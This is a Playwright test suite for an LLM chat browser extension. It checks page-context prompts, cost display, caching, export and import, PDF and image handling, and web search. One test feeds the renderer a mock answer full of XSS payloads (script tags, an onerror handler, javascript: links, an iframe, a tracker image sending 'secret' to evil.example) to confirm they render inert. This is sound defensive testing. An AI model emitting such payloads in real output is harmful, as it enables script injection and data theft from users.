import type { Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { formatCost } from '../../lib/chat/answer';
import { imageSize } from '../../lib/gateway/image-size';
import { makePdf } from '../support/pdf';
import { makePng } from '../support/png';
import { addProvider, call, dropPendingJob, expect, screenshotPath, test, type Extension } from './fixtures';

const NEWS = `<!doctype html><html lang="en"><head><title>Harbour bridge reopens after repairs</title></head><body>
<header>Daily Gazette · Subscribe</header>
<article><h1>Harbour bridge reopens after repairs</h1>
<p>The harbour bridge reopened on Monday after eight months of repairs to its steel deck, the city said.</p>
<p>Engineers replaced 1,200 rivets and repainted the main span in its original teal colour.</p>
<p>Traffic is expected to return to about 40,000 vehicles a day by the end of the month.</p></article>
<footer>© Daily Gazette</footer></body></html>`;

async function setUp(extension: Extension, mockUrl: string) {
  const options = await extension.open('options');
  await addProvider(options, { id: 'anthropic', name: 'Anthropic', kind: 'anthropic', preset: 'anthropic', baseUrl: `${mockUrl}/anthropic` }, 'sk-ant-panel-1');
  await addProvider(options, { id: 'ollama', name: 'Ollama', kind: 'ollama', preset: 'ollama', baseUrl: `${mockUrl}/ollama` });
  await call(options, 'budgets.save', { global: {}, providers: {}, warnAt: 0.8 });
  await dropPendingJob(options);
  await options.close();
}

async function pickModel(panel: Page, search: string, name: string) {
  await panel.getByTestId('model-picker').click();
  await panel.getByLabel('Search models').fill(search);
  await panel.getByRole('option', { name: new RegExp(name) }).first().click();
}

async function ask(panel: Page, text: string) {
  await panel.getByLabel('Message').fill(text);
  await panel.getByLabel('Message').press('Enter');
}

test('a streamed chat about a news page: the page text reaches the prompt, the answer shows its cost', async ({ extension, mock, pageServer }) => {
  await setUp(extension, mock.url);
  const url = pageServer.serve(NEWS);
  const panel = await extension.open('sidepanel');
  const article = await extension.context.newPage();
  await article.goto(url);
  await article.bringToFront();

  await pickModel(panel, 'sonnet 4.5', 'Claude Sonnet 4.5');
  await panel.getByTestId('use-page').click();
  await expect(panel.getByTestId('page-chip')).toContainText('Harbour bridge reopens after repairs');
  await panel.getByLabel('Message').fill('What happened to the bridge?');
  await expect(panel.getByTestId('cost-estimate')).toContainText('prompt tokens');
  // The same prompt on the other models, on demand: cheapest first, the chosen one marked.
  await panel.getByRole('button', { name: 'on other models' }).click();
  const elsewhere = panel.getByTestId('other-models-cost');
  await expect(elsewhere.locator('tr[aria-current="true"]')).toContainText('Claude Sonnet 4.5');
  const tokens = Number((await panel.getByTestId('cost-estimate').textContent())!.match(/≈ ([\d,]+) prompt tokens/)![1]!.replace(/,/g, ''));
  // Which models show depends on the providers set up (other tests add some to this browser): the
  // cheapest shown is checked against its list price, whichever it is.
  const catalog = await call<{ models: { id: string; pricing: { input: number } | null }[] }>(panel, 'catalog.models');
  const cheapest = elsewhere.locator('tr').first();
  const cheapestId = await cheapest.getAttribute('data-model');
  const cheapestPrice = catalog.data!.models.find((m) => m.id === cheapestId)!.pricing!.input;
  await expect(cheapest.locator('td').nth(1)).toHaveText(formatCost(Math.round(tokens * cheapestPrice * 1e-6 * 1e8) / 1e8) || '$0');
  const prices = (await elsewhere.locator('td:nth-child(2)').allTextContents()).map((c) => Number(c.replace(/[^0-9.]/g, '')));
  expect(prices.slice(0, -1)).toEqual([...prices.slice(0, -1)].sort((a, b) => a - b));
  await panel.screenshot({ path: screenshotPath('sidepanel-other-models') });
  await panel.getByRole('button', { name: 'hide other models' }).click();
  mock.script('anthropic', {
    text: 'The **harbour bridge** reopened on Monday after eight months of repairs:\n\n- 1,200 rivets replaced\n- main span repainted teal\n\n```js\nconst vehiclesPerDay = 40_000;\n```',
    chunkDelayMs: 20,
  });
  await panel.getByLabel('Message').press('Enter');

  const answer = panel.getByTestId('message-assistant').last();
  await expect(answer.locator('strong')).toHaveText('harbour bridge');
  await expect(answer.locator('li')).toHaveCount(2);
  await expect(answer.locator('.sy-code')).toContainText('vehiclesPerDay');
  await expect(answer.getByTestId('answer-meta')).toContainText('via anthropic');
  await expect(answer.getByTestId('answer-meta')).toContainText('$');

  const sent = mock.requests.at(-1)!.body as { system?: { text: string }[]; messages: { content: unknown }[] };
  const system = sent.system!.map((b) => b.text).join('\n');
  expect(system).toContain('Engineers replaced 1,200 rivets');
  expect(system).toContain(url);
  expect(system).not.toContain('Subscribe');
  expect(JSON.stringify(sent.messages)).toContain('What happened to the bridge?');
  await panel.screenshot({ path: screenshotPath('sidepanel-news-answer'), fullPage: true });
  await panel.emulateMedia({ colorScheme: 'dark' });
  await panel.screenshot({ path: screenshotPath('sidepanel-news-answer-dark'), fullPage: true });
  await article.close();
});

test('regenerate asks again, and the conversation is there after reopening the panel', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  let panel = await extension.open('sidepanel');
  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
  mock.script('ollama', { text: 'First take on rail gauges.' }, { text: 'Second take on rail gauges.' });
  await ask(panel, 'Why do rail gauges differ between countries?');
  await expect(panel.getByTestId('message-assistant').last()).toContainText('First take');
  await panel.getByTestId('regenerate').click();
  await expect(panel.getByTestId('message-assistant').last()).toContainText('Second take');
  await expect(panel.getByTestId('message-assistant')).toHaveCount(1);
  // Done (its meta line shows) means stored.
  await expect(panel.getByTestId('message-assistant').getByTestId('answer-meta')).toBeVisible();
  const lastTwo = mock.requests.slice(-2).map((r) => JSON.stringify(r.body.messages));
  expect(lastTwo[0]).toBe(lastTwo[1]);
  await panel.close();

  panel = await extension.open('sidepanel');
  await panel.getByRole('button', { name: 'History' }).click();
  await panel.getByLabel('Search conversations').fill('gauges');
  const item = panel.getByTestId('history-item').first();
  await expect(item).toContainText('Why do rail gauges differ between countries?');
  await panel.screenshot({ path: screenshotPath('sidepanel-history') });
  await item.locator('.sy-history-open').click();
  await expect(panel.getByTestId('message-user')).toContainText('Why do rail gauges differ');
  await expect(panel.getByTestId('message-assistant')).toContainText('Second take on rail gauges.');
  await expect(panel.getByTestId('message-assistant').getByTestId('answer-meta')).toContainText('via ollama');
});

test('a hostile markdown answer renders inert', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  const panel = await extension.open('sidepanel');
  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
  mock.script('ollama', {
    text: [
      'Here you go <script>window.__pwned = "script"</script>',
      '<img src="x" onerror="window.__pwned = \'img\'">',
      '[click me](javascript:window.__pwned=%22link%22)',
      '<a href="javascript:window.__pwned=1">raw link</a>',
      '![tracker](https://evil.example/collect?data=secret)',
      '<iframe src="https://evil.example"></iframe>',
      '[fine link](https://example.com/docs)',
    ].join('\n\n'),
  });
  await ask(panel, 'Show me something dangerous');
  const answer = panel.getByTestId('message-assistant').last();
  await expect(answer).toContainText('fine link');
  const markdown = answer.locator('.sy-markdown');
  // The renderer loads when an answer first needs it: until then the answer shows as plain text.
  await expect(markdown.getByRole('link', { name: 'fine link' })).toBeVisible();
  await expect(markdown.locator('script, img, iframe, [onerror]')).toHaveCount(0);
  const hrefs = await markdown.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
  expect(hrefs.some((h) => /^javascript:/i.test(h))).toBe(false);
  expect(hrefs).toContain('https://example.com/docs');
  expect(hrefs).toContain('https://evil.example/collect?data=secret');
  await markdown.getByText('click me').click();
  expect(await panel.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  await panel.screenshot({ path: screenshotPath('sidepanel-hostile-markdown') });
});

test('a page too big for the model is trimmed with a visible note', async ({ extension, mock, pageServer }) => {
  await setUp(extension, mock.url);
  // About 150,000 tokens: more than Switchyard sends of one page (100,000).
  const paragraphs = Array.from({ length: 10_000 }, (_, i) => `<p>Paragraph ${i} of a very long report about freight logistics and switching yards.</p>`).join('');
  const url = pageServer.serve(`<!doctype html><title>Long report</title><article><h1>Long report</h1>${paragraphs}</article>`);
  const panel = await extension.open('sidepanel');
  const page = await extension.context.newPage();
  await page.goto(url);
  await page.bringToFront();
  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
  await panel.getByTestId('use-page').click();
  await expect(panel.getByTestId('page-chip')).toContainText('Long report');
  await ask(panel, 'Summarize');
  // Counting a 150,000-token page exactly and trimming it takes seconds on a loaded 2-core CI machine.
  await expect(panel.getByTestId('message-assistant').last()).toContainText('Mock ollama answer', { timeout: 30_000 });
  await panel.screenshot({ path: screenshotPath('sidepanel-page-trimmed') });
  await expect(panel.getByTestId('page-trimmed')).toContainText(/Cut to fit Llama 3.2 3B Instruct: 9\d,\d{3} of 1\d\d,\d{3} tokens go/);
  const system = (mock.requests.at(-1)!.body.messages as { role: string; content: string }[])[0]!;
  expect(system.role).toBe('system');
  expect(system.content).toContain('Paragraph 0 of a very long report');
  expect(system.content).not.toContain('Paragraph 9999 ');
  await panel.screenshot({ path: screenshotPath('sidepanel-page-trimmed') });
  await page.close();
});

test('three questions about one long page with Claude: the follow-ups read the page from the cache and cost less', async ({ extension, mock, pageServer }) => {
  await setUp(extension, mock.url);
  const paragraphs = Array.from({ length: 300 }, (_, i) => `<p>Section ${i}: the yard sorts freight cars by destination over a hump, ${i * 7} cars an hour.</p>`).join('');
  const url = pageServer.serve(`<!doctype html><title>Hump yard handbook</title><article><h1>Hump yard handbook</h1>${paragraphs}</article>`);
  const panel = await extension.open('sidepanel');
  const page = await extension.context.newPage();
  await page.goto(url);
  await page.bringToFront();
  await pickModel(panel, 'sonnet 4.5', 'Claude Sonnet 4.5');
  await panel.getByTestId('use-page').click();
  await expect(panel.getByTestId('page-chip')).toContainText('Hump yard handbook');
  // Claude reasons: the panel offers the thinking control.
  await expect(panel.getByRole('region', { name: 'Chat' }).getByLabel('Thinking')).toBeVisible();

  const before = mock.requests.length;
  for (const [i, question] of ['What is a hump yard?', 'How fast does it sort?', 'What limits it?'].entries()) {
    mock.script('anthropic', { text: `Answer ${i + 1} about the hump yard.` });
    await ask(panel, question);
    await expect(panel.getByTestId('message-assistant').nth(i)).toContainText(`Answer ${i + 1} about the hump yard.`);
    await expect(panel.getByTestId('message-assistant').nth(i).getByTestId('answer-meta')).toContainText('$');
  }
  const sent = mock.requests.slice(before).map((r) => r.body as { system: { cache_control?: unknown }[]; messages: { role: string; content: unknown }[] });
  expect(sent).toHaveLength(3);
  for (const body of sent) expect(body.system[0]!.cache_control).toEqual({ type: 'ephemeral' });
  // The follow-ups also mark the conversation so far.
  for (const body of sent.slice(1)) expect(JSON.stringify(body.messages.findLast((m) => m.role === 'assistant'))).toContain('cache_control');

  const follow = panel.getByTestId('message-assistant').nth(1).getByTestId('answer-meta');
  await expect(follow).toContainText('cached');
  await expect(follow).toContainText('caching saved $');

  const options = await extension.open('options');
  const listed = await call<{ rows: { requestedModel: string; cost: number; promptTokens: number; completionTokens: number; cachedTokens: number; cacheSaved?: number }[] }>(options, 'ledger.list', { filter: { model: 'anthropic/claude-sonnet-4-5' }, pageSize: 3 });
  const [third, second, first] = listed.data!.rows;
  expect(first!.cachedTokens).toBe(0);
  for (const row of [second!, third!]) {
    expect(row.cachedTokens).toBeGreaterThan(2000);
    expect(row.cost).toBeLessThan(first!.cost);
    // Cache reads are priced below input: less than the same prompt at Claude Sonnet 4.5's input price.
    expect(row.cost).toBeLessThan((row.promptTokens * 3 + row.completionTokens * 15) / 1e6);
    expect(row.cacheSaved).toBeGreaterThan(0);
  }
  await options.getByRole('link', { name: 'Spending' }).click();
  await expect(options.getByTestId('cache-saved')).toHaveText(/^\$0\.0\d*[1-9]/);
  await options.screenshot({ path: screenshotPath('dashboard-cache-saved'), fullPage: true });
  await panel.screenshot({ path: screenshotPath('sidepanel-cached-follow-ups'), fullPage: true });
  await options.close();
  await page.close();
});

test('a conversation exported as Markdown and JSON, and the JSON imported back, gives the same conversation; a bad file adds nothing', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  const panel = await extension.open('sidepanel');
  await pickModel(panel, 'sonnet 4.5', 'Claude Sonnet 4.5');
  mock.script('anthropic', { text: 'Points move the **wagons** onto the right track.' }, { text: 'A hump lets gravity roll them.' });
  const title = `Export test ${Date.now()}`;
  await ask(panel, `${title}: what do points do?`);
  await expect(panel.getByTestId('message-assistant').last()).toContainText('right track');
  // The answer is done (stored, its line shown) before the next question can be sent.
  await expect(panel.getByTestId('message-assistant').last().getByTestId('answer-meta')).toBeVisible();
  await ask(panel, 'And the hump?');
  await expect(panel.getByTestId('message-assistant').last()).toContainText('gravity');
  await expect(panel.getByTestId('message-assistant').last().getByTestId('answer-meta')).toBeVisible();

  const save = async (format: RegExp) => {
    await panel.locator('.sy-menu > summary').click();
    const [file] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: format }).click()]);
    return { name: file.suggestedFilename(), text: readFileSync((await file.path())!, 'utf8') };
  };
  const markdown = await save(/^Markdown$/);
  expect(markdown.name).toMatch(/^Export-test-\d+-what-do-points-do\.md$/);
  expect(markdown.text).toContain('## You\n\nAnd the hump?');
  expect(markdown.text).toContain('## anthropic/claude-sonnet-4-5\n\nPoints move the **wagons** onto the right track.');
  const json = await save(/^JSON/);
  const file = JSON.parse(json.text) as { format: string; messages: { role: string; content: string }[] };
  expect(file.format).toBe('switchyard.conversation');

  await panel.getByRole('button', { name: 'History' }).click();
  const history = panel.getByTestId('history-item').filter({ hasText: title });
  await expect(history).toHaveCount(1);
  // A file that is not a conversation: a clear error, nothing added.
  await panel.getByLabel('Import a conversation').setInputFiles({ name: 'settings.json', mimeType: 'application/json', buffer: Buffer.from('{"providers": []}') });
  await expect(panel.getByTestId('import-result')).toContainText('not a Switchyard conversation file');
  await expect(history).toHaveCount(1);

  await panel.getByLabel('Import a conversation').setInputFiles({ name: json.name, mimeType: 'application/json', buffer: Buffer.from(json.text) });
  // The import opens as a conversation of its own, with the same messages.
  const messages = panel.locator('[data-testid^="message-"]');
  await expect(messages).toHaveCount(4);
  await expect(messages).toHaveText(file.messages.map((m) => new RegExp(m.content.replace(/\*\*/g, '').replace(/[.?]/g, '\\$&'))));
  await expect(panel.getByTestId('message-assistant').first().getByTestId('answer-meta')).toContainText('via anthropic');
  await panel.getByRole('button', { name: 'History' }).click();
  await expect(panel.getByTestId('history-item').filter({ hasText: title })).toHaveCount(2);
  await panel.screenshot({ path: screenshotPath('sidepanel-imported'), fullPage: true });
});

test('a PDF open in a tab and a file attached: their text reaches the prompt by page; a scan gets a clear message', async ({ extension, mock, pageServer }) => {
  await setUp(extension, mock.url);
  const url = pageServer.serveFile('/files/yard-handbook.pdf', makePdf([['Hump yards sort wagons by gravity.', 'Retarders slow the wagons.'], ['Points guide each wagon to its track.']], 'Yard handbook'), 'application/pdf');
  const panel = await extension.open('sidepanel');
  const tab = await extension.context.newPage();
  await tab.goto(url).catch(() => undefined); // the browser's PDF viewer, or a download in a headless one
  await tab.bringToFront();
  await pickModel(panel, 'sonnet 4.5', 'Claude Sonnet 4.5');
  await panel.getByTestId('use-page').click();
  const chip = panel.getByTestId('page-chip');
  await expect(chip).toContainText('Yard handbook');
  await chip.locator('summary').click();
  await expect(chip.locator('.sy-preview')).toContainText('[Page 2]\nPoints guide each wagon to its track.');
  await panel.screenshot({ path: screenshotPath('sidepanel-pdf'), fullPage: true });
  mock.script('anthropic', { text: 'Page 2 says points guide the wagons.' });
  await ask(panel, 'What guides the wagons?');
  await expect(panel.getByTestId('message-assistant').last()).toContainText('Page 2 says');
  const system = (mock.requests.at(-1)!.body as { system: { text: string }[] }).system.map((b) => b.text).join('\n');
  expect(system).toContain('[Page 1]\nHump yards sort wagons by gravity.\nRetarders slow the wagons.\n\n[Page 2]\nPoints guide each wagon to its track.');
  await tab.close();

  // A file picked into the panel works the same; a scan without text is refused with a reason.
  await panel.getByRole('button', { name: 'New chat' }).click();
  await panel.getByTestId('attach-file').getByLabel('Attach a PDF or text file').setInputFiles({ name: 'scan.pdf', mimeType: 'application/pdf', buffer: makePdf([[]]) });
  await expect(panel.getByTestId('page-error')).toContainText('looks like a scan');
  // A scan can still go to a vision model, as pictures of its pages.
  await panel.locator('section.sy-chat').getByRole('button', { name: 'Send its pages as images' }).click();
  await expect(panel.locator('section.sy-chat').getByRole('img', { name: 'Attached image 1' })).toBeVisible();
  mock.script('anthropic', { text: 'A grey page.' });
  await ask(panel, 'What is on this scanned page?');
  await expect(panel.getByTestId('message-assistant').last()).toContainText('A grey page.');
  const scanned = (mock.requests.at(-1)!.body as { messages: { content: { type: string; source?: { media_type: string; data: string } }[] }[] }).messages.at(-1)!.content;
  const page = imageSize(`data:image/png;base64,${scanned.find((b) => b.type === 'image')!.source!.data}`)!;
  expect(page.height / page.width).toBeCloseTo(792 / 612, 1);
  await panel.getByRole('button', { name: 'New chat' }).click();
  await panel.getByTestId('attach-file').getByLabel('Attach a PDF or text file').setInputFiles({ name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('# Shunting notes\n\nThe 08:15 freight leaves from track 7.') });
  await expect(panel.getByTestId('page-chip')).toContainText('notes.md');
  mock.script('anthropic', { text: 'Track 7.' });
  await ask(panel, 'Which track?');
  await expect(panel.getByTestId('message-assistant').last()).toContainText('Track 7.');
  const sent = (mock.requests.at(-1)!.body as { system: { text: string }[] }).system.map((b) => b.text).join('\n');
  expect(sent).toContain('The 08:15 freight leaves from track 7.');
});

test('an image attached to a question reaches a vision model as a valid PNG, scaled and priced before sending; a text-only model is refused', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  const panel = await extension.open('sidepanel');
  await pickModel(panel, 'llama 3.2', 'Llama 3.2 3B');
  await panel.getByLabel('Message').fill('What does this chart show?');
  await expect(panel.getByTestId('cost-estimate')).toContainText('prompt tokens');
  const textOnly = Number((await panel.getByTestId('cost-estimate').textContent())!.match(/≈ ([\d,]+)/)![1]!.replace(/,/g, ''));
  await panel.locator('section.sy-chat').getByLabel('Attach an image').setInputFiles({ name: 'chart.png', mimeType: 'image/png', buffer: makePng(2400, 1600) });
  await expect(panel.locator('section.sy-chat').getByRole('img', { name: 'Attached image 1' })).toBeVisible();
  // Llama 3.2 3B reads text only: the question cannot go to it.
  await expect(panel.getByTestId('vision-needed')).toContainText('Llama 3.2 3B Instruct cannot read images');
  await expect(panel.getByRole('button', { name: 'Send' })).toBeDisabled();
  const before = mock.requests.length;
  await panel.getByLabel('Message').press('Enter');
  expect(mock.requests.length).toBe(before);

  // Only vision models are offered now; Claude sees it.
  await panel.getByTestId('model-picker').click();
  await panel.getByLabel('Search models').fill('llama 3.2 3b');
  await expect(panel.getByRole('option', { name: /Llama 3\.2 3B/ })).toHaveCount(0);
  await panel.getByLabel('Search models').fill('sonnet 4.5');
  await panel.getByRole('option', { name: /Claude Sonnet 4\.5/ }).first().click();
  await expect(panel.getByTestId('vision-needed')).toHaveCount(0);
  // The estimate counts the image as the provider will: scaled to about 1.15 megapixels, / 750.
  await expect.poll(async () => Number((await panel.getByTestId('cost-estimate').textContent())!.match(/≈ ([\d,]+)/)![1]!.replace(/,/g, ''))).toBeGreaterThan(textOnly + 1400);
  mock.script('anthropic', { text: 'A blue chart.' });
  await panel.getByRole('button', { name: 'Send' }).click();
  await expect(panel.getByTestId('message-assistant').last()).toContainText('A blue chart.');
  await expect(panel.getByRole('img', { name: 'Image 1 sent with this question' })).toBeVisible();

  const sent = mock.requests.at(-1)!.body as { messages: { role: string; content: { type: string; source?: { type: string; media_type: string; data: string } }[] }[] };
  const image = sent.messages.at(-1)!.content.find((b) => b.type === 'image')!.source!;
  // The mock decoded it in full (an undecodable image is a 400 there, as at Anthropic).
  expect(image.media_type).toBe('image/png');
  const size = imageSize(`data:image/png;base64,${image.data}`)!;
  expect(Math.max(size.width, size.height)).toBeLessThanOrEqual(1568);
  expect(size.width * size.height).toBeLessThanOrEqual(1_150_000);
  expect(size.width / size.height).toBeCloseTo(1.5, 1);
  await panel.screenshot({ path: screenshotPath('sidepanel-image'), fullPage: true });
});

test('capturing a region: the user drags a rectangle on the page, which leaves no trace; Escape cancels; without the browser’s grant the panel says how to get it', async ({ extension, mock, pageServer }) => {
  await setUp(extension, mock.url);
  const url = pageServer.serve('<!doctype html><title>Chart</title><body style="margin:0;height:2000px;background:#2a5bd7"><h1>Revenue up 12%</h1></body>');
  const panel = await extension.open('sidepanel');
  const tab = await extension.context.newPage();
  await tab.goto(url);
  await tab.bringToFront();
  const overlays = () => tab.evaluate(() => [...document.documentElement.children].filter((e) => e instanceof HTMLDivElement && e.style.zIndex === '2147483647').length);

  // Escape cancels: no overlay left, nothing attached, no error.
  await panel.locator('section.sy-chat').getByRole('button', { name: 'Capture a region' }).click();
  await expect.poll(overlays).toBe(1);
  await tab.keyboard.press('Escape');
  await expect.poll(overlays).toBe(0);
  await expect(panel.locator('section.sy-chat').getByRole('button', { name: 'Capture a region' })).toBeEnabled();
  await expect(panel.getByTestId('image-error')).toHaveCount(0);

  // A drag selects; the overlay is gone before the capture. This browser was not opened from the
  // toolbar on the tab (no activeTab grant), so the capture is refused with the way to allow it.
  await panel.locator('section.sy-chat').getByRole('button', { name: 'Capture a region' }).click();
  await expect.poll(overlays).toBe(1);
  await tab.mouse.move(100, 80);
  await tab.mouse.down();
  await tab.mouse.move(400, 300, { steps: 5 });
  await tab.mouse.up();
  await expect.poll(overlays).toBe(0);
  await expect(panel.getByTestId('image-error')).toContainText('open it from that tab');
  // Or the user allows capturing any tab, from here (the prompt itself needs a headed browser;
  // capture.spec.ts runs with the grant given).
  await expect(panel.getByTestId('image-error').getByRole('button', { name: 'Allow capturing any tab' })).toBeVisible();
  await tab.close();
});

test('the model picker renders only the rows in view, and scrolling reaches the last model with each row counted in the whole list', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  const options = await extension.open('options');
  const catalog = await call<{ models: unknown[] }>(options, 'catalog.models');
  const total = catalog.data!.models.length;
  expect(total).toBeGreaterThan(60);
  const panel = await extension.open('sidepanel');
  await panel.getByTestId('model-picker').click();
  await panel.getByText('show all').click();
  const list = panel.getByRole('listbox', { name: 'Models' });
  await expect(list.getByText(`All models`)).toBeVisible();
  const rendered = await list.getByRole('option').count();
  expect(rendered).toBeGreaterThan(3);
  expect(rendered).toBeLessThan(40);
  // Each row says where it stands in the whole list, for a screen reader that sees only some.
  const setSize = Number(await list.getByRole('option').last().getAttribute('aria-setsize'));
  expect(setSize).toBeGreaterThan(60);
  await list.evaluate((el) => el.scrollTo(0, el.scrollHeight));
  await expect(list.locator(`[aria-posinset="${setSize}"]`)).toBeVisible();
  expect(await list.getByRole('option').count()).toBeLessThan(40);
  await panel.screenshot({ path: 'test-results/picker-last-model.png' });
  // Back at the top, the first rows are there again.
  await list.evaluate((el) => el.scrollTo(0, 0));
  await expect(list.locator('[aria-posinset="1"]').first()).toBeVisible();

  // By keyboard alone: down from the search into the list, End to the last model that can be
  // picked (far below what is rendered), Enter picks it.
  await panel.getByText('show all').click();
  const usable = await call<{ models: { name: string; providers: string[] }[] }>(options, 'catalog.models');
  const pickable = usable.data!.models.filter((m) => m.providers.length > 0).length;
  await panel.getByLabel('Search models').focus();
  await panel.keyboard.press('ArrowDown');
  await expect(list.locator('[aria-posinset="1"]').first()).toBeFocused();
  await panel.keyboard.press('ArrowDown');
  await expect(list.locator('[aria-posinset="2"]').first()).toBeFocused();
  await panel.keyboard.press('End');
  const last = list.locator(`[aria-posinset="${pickable}"]`);
  await expect(last).toBeFocused();
  await expect(last).toBeInViewport();
  const name = (await last.locator('.sy-model-name').textContent())!;
  await panel.keyboard.press('Enter');
  await expect(panel.getByTestId('model-picker')).toContainText(name);
  await panel.close();
  await options.close();
});

test('"Search the web": Claude searches, the answer cites its sources as numbered links and lists them, the searches priced in its line', async ({ extension, mock }) => {
  await setUp(extension, mock.url);
  const panel = await extension.open('sidepanel');
  await pickModel(panel, 'claude sonnet 4.5', 'Claude Sonnet 4.5');
  const toggle = panel.getByRole('button', { name: 'Search the web' });
  // The setting is the browser's: another test in this browser may have left it on.
  if ((await toggle.getAttribute('aria-pressed')) === 'true') await toggle.click();
  await expect(toggle).toHaveAttribute('aria-pressed', 'false');
  await toggle.click();
  await expect(toggle).toHaveAttribute('aria-pressed', 'true');
  const text = 'The Gotthard Base Tunnel is 57.1 km long. It opened in June 2016.';
  mock.script('anthropic', {
    text,
    search: {
      queries: ['Gotthard Base Tunnel length'],
      sources: [
        { url: 'https://tunnels.example/gotthard', title: 'Gotthard Base Tunnel', cites: 'The Gotthard Base Tunnel is 57.1 km long.' },
        { url: 'https://rail.example/history', title: 'Swiss rail history', cites: 'It opened in June 2016.' },
      ],
    },
  });
  const today = new Date().toISOString().slice(0, 10);
  const dashboard = async () => (await call<{ overall: { webSearches: number; searchCost: number } }>(panel, 'dashboard.summary', { from: today, to: today })).data!.overall;
  const { webSearches: searchesBefore, searchCost: feesBefore } = await dashboard();
  await ask(panel, 'How long is the Gotthard Base Tunnel?');
  const answer = panel.getByTestId('message-assistant').last();
  await expect(answer.getByTestId('answer-meta')).toContainText('1 web search $0.010');
  // Claude was given its own web search tool.
  expect(JSON.stringify(mock.requests.at(-1)!.body.tools)).toContain('web_search_20250305');
  const marks = answer.locator('.sy-bubble a');
  await expect(marks).toHaveText(['1', '2']);
  await expect(marks.first()).toHaveAttribute('href', 'https://tunnels.example/gotthard');
  const sources = answer.getByTestId('answer-sources');
  await expect(sources.getByRole('link')).toHaveText(['Gotthard Base Tunnel', 'Swiss rail history']);
  await expect(sources.getByRole('link').last()).toHaveAttribute('target', '_blank');
  await panel.screenshot({ path: screenshotPath('sidepanel-web-search') });

  // The choice is kept for the next panel.
  await panel.close();
  const again = await extension.open('sidepanel');
  await expect(again.getByRole('button', { name: 'Search the web' })).toHaveAttribute('aria-pressed', 'true');
  // Off again, for the tests that follow in this browser.
  await again.getByRole('button', { name: 'Search the web' }).click();
  await expect(again.getByRole('button', { name: 'Search the web' })).toHaveAttribute('aria-pressed', 'false');

  // The dashboard shows the search and its fee apart (within the spend), beside those of earlier tests in this browser.
  const options = await extension.open('options');
  await options.goto(options.url().replace(/#.*$/, '') + '#dashboard');
  await expect(options.getByTestId('web-searches')).toHaveText(`${searchesBefore + 1} · ${formatCost(feesBefore + 0.01)}`);
});
